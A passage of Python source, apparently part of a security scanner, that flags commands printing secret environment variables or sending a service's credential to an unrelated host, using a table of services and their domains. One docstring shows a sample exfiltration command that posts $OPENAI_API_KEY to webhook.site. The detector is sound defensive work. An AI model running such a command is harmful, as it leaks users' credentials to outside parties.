    if _PY_ENV_ALL.search(text) or re.search(r"(-p|--print)\s+['\"]?process\.env['\"]?(\s|$)", text):
        a.emit("secrets.env-dump", cmd, target="the environment", effect="reveal-secret")
        return
    if not _PRINTS.search(text):
        return
    for m in _ENV_KEYED.finditer(text):
        n = next(g for g in m.groups() if g)
        if SECRET_VAR.search(n) and not NOT_SECRET_VAR.match(n):
            if _TESTED_BEFORE.search(text[max(0, m.start() - 16):m.start()]) or \
                    _TESTED_AFTER.match(text[m.end():m.end() + 24].lstrip("'\"]) ").lstrip("'\"])")):
                continue  # Boolean(process.env.X), len(os.environ['X']), X is not None: whether it is set
            a.emit("secrets.env-dump", cmd, target=f"${n}", effect="reveal-secret")
            return


# --- a secret variable sent to a host that is not its service ----------------------------------------

# A word of the variable's name → the domains its service answers on.  A variable whose name names
# no service (API_TOKEN, SECRET) is not judged here: its service is unknown.
_VAR_SERVICES = {
    "OPENAI": ("openai.com", "openai.azure.com"), "ANTHROPIC": ("anthropic.com",), "CLAUDE": ("anthropic.com",),
    "GITHUB": ("github.com", "githubusercontent.com", "ghe.com"), "GH": ("github.com", "ghe.com"),
    "GITLAB": ("gitlab.com",), "STRIPE": ("stripe.com",), "SLACK": ("slack.com",),
    "RAILWAY": ("railway.app", "railway.com"), "VERCEL": ("vercel.com", "vercel.app"), "NETLIFY": ("netlify.com",),
    "CLOUDFLARE": ("cloudflare.com",), "CF": ("cloudflare.com",), "HEROKU": ("heroku.com",), "FLY": ("fly.io",),
    "DIGITALOCEAN": ("digitalocean.com",), "SENDGRID": ("sendgrid.com",), "TWILIO": ("twilio.com",),
    "DATADOG": ("datadoghq.com", "datadoghq.eu", "ddog-gov.com"), "DD": ("datadoghq.com", "datadoghq.eu"),
    "SENTRY": ("sentry.io",), "NPM": ("npmjs.org", "npmjs.com"), "PYPI": ("pypi.org",),
    "HF": ("huggingface.co",), "HUGGINGFACE": ("huggingface.co",), "GEMINI": ("googleapis.com",),
    "GOOGLE": ("googleapis.com", "google.com"), "GCP": ("googleapis.com",), "AWS": ("amazonaws.com", "aws.amazon.com"),
    "AZURE": ("azure.com", "windows.net", "microsoft.com", "azure.net"), "SUPABASE": ("supabase.co", "supabase.com"),
    "DOCKER": ("docker.io", "docker.com"), "CIRCLECI": ("circleci.com",), "LINEAR": ("linear.app",),
    "NOTION": ("notion.com", "notion.so"), "DISCORD": ("discord.com", "discordapp.com"),
    "TELEGRAM": ("telegram.org",), "MAILGUN": ("mailgun.net",), "PAGERDUTY": ("pagerduty.com",),
    "ALGOLIA": ("algolia.net", "algolia.io", "algolianet.com"), "MAPBOX": ("mapbox.com",),
    "SHOPIFY": ("myshopify.com", "shopify.com"), "JIRA": ("atlassian.net",), "ATLASSIAN": ("atlassian.net",),
    "OPENROUTER": ("openrouter.ai",), "GROQ": ("groq.com",), "MISTRAL": ("mistral.ai",),
    "COHERE": ("cohere.ai", "cohere.com"), "REPLICATE": ("replicate.com",), "PINECONE": ("pinecone.io",),
    "POSTMARK": ("postmarkapp.com",), "RESEND": ("resend.com",), "FIREBASE": ("googleapis.com", "firebaseio.com"),
    "DOPPLER": ("doppler.com",), "NEON": ("neon.tech",), "PLANETSCALE": ("psdb.cloud", "planetscale.com"),
    "TERRAFORM": ("terraform.io", "hashicorp.cloud"), "SNYK": ("snyk.io",), "CODECOV": ("codecov.io",),
}
# beyond the HTTP analysis' local hosts (localhost, 127.x, *.local, ...): private networks and names
_PRIVATE_HOST = _LazyRe(r"^(10(\.\d+){3}|192\.168(\.\d+){2}|172\.(1[6-9]|2\d|3[01])(\.\d+){2}|"
                        r"[a-z0-9.-]+\.(internal|lan|home\.arpa))$")


def _var_service(name):
    for seg in name.upper().split("_"):
        if seg in _VAR_SERVICES:
            return seg
    return None


def _is_local(host):
    from ..http import _is_local as local

    return local(host)


def sent_to_wrong_host(a, cmd, hosts):
    """``curl -d "key=$OPENAI_API_KEY" https://webhook.site/…``: a variable named for one service, sent
    to a host of another (the command's own text names the variable; its value is never known)."""
    text = re.sub(r"'[^']*'", "''", cmd.text or "")
    if "$" not in text or not hosts:
        return
    for m in _VAR_REF.finditer(text):
        name = m.group(1)
        if not SECRET_VAR.search(name) or NOT_SECRET_VAR.match(name):
            continue
        svc = _var_service(name)
        if svc is None:
            continue
        for host in hosts:
            if not host or U in host or _is_local(host) or _PRIVATE_HOST.match(host):
                continue
            labels = host.split(".")
            if svc.lower() in labels or any(host == d or host.endswith("." + d) for d in _VAR_SERVICES[svc]):
                continue
            a.emit("secrets.send-env", cmd, target=f"${name} → {host}", effect="send-secret",
                   note=f"{name} is a {svc.title()} credential; {host} is not {svc.title()}")
            return
